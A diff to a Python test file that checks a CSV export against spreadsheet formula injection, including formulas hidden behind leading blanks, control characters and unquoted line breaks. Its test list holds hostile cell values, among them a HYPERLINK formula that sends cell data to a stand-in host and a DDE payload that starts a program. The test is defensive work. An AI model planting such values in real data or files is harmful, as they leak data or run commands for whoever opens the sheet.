@@ -208,7 +208,58 @@ def test_export_refuses_a_bad_since(
 
 
 def test_csv_cells_cannot_be_formulas():
-    from rasa_rpa.export import render_csv
-
     text = render_csv([{"id": "j1", "error": "=HYPERLINK(\"http://x\")"}])
     assert "'=HYPERLINK" in text
+
+
+#: Cells a spreadsheet reads as a formula once it skips leading blanks and
+#: control characters, and cells that start a new row (whose first cell is a
+#: formula) when a CR or LF in them is not quoted.
+FORMULAS = [
+    "\r=HYPERLINK(\"http://evil.example/?\"&A1)",
+    "\t=1+1",
+    "  +SUM(A1:A9)",
+    "\n-2+3",
+    "\x1f@SUM(1)",
+    "\u00a0=cmd|' /C calc'!A0",
+]
+LINE_BREAKS = ["ok\r=2+2", "ok\n@SUM(1)"]
+HOSTILE = FORMULAS + LINE_BREAKS
+
+
+def test_export_csv_neutralises_formulas_after_blanks_and_line_breaks(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    async def seed_hostile() -> None:
+        store = SQLiteJobStore(tmp_path / "jobs.db")
+        await store.open()
+        try:
+            for n, text in enumerate(HOSTILE):
+                # The user chooses the conversation id; a robot writes the error.
+                job = Job(f"job-{n}", "a", "p", text, created_at=T0 + n,
+                          updated_at=T0 + n)
+                await store.create_job(job)
+                failed = JobEvent("e1", job.id, EventType.FAILED, {"error": text},
+                                  received_at=T0 + n + 1)
+                await store.record_event(failed)
+        finally:
+            await store.close()
+
+    asyncio.run(seed_hostile())
+    out = tmp_path / "jobs.csv"
+    assert main(["export", "--config", write_config(tmp_path), "--output",
+                 str(out)]) == 0
+    with out.open(encoding="utf-8", newline="") as file:
+        raw = file.read()
+    # A spreadsheet starts a row at every CR or LF outside quotes.
+    rows = list(csv.reader(io.StringIO(raw, newline="")))
+    assert len(rows) == 1 + len(HOSTILE), raw
+    header = rows[0]
+    for n, row in enumerate(rows[1:]):
+        cells = dict(zip(header, row, strict=True))
+        assert cells["id"] == f"job-{n}"
+        for column in ("conversation_id", "error"):
+            # Prefixed only where the cell itself is a formula; either way the
+            # text reads back whole, in its own row.
+            prefix = "'" if HOSTILE[n] in FORMULAS else ""
+            assert cells[column] == prefix + HOSTILE[n], (column, cells[column])
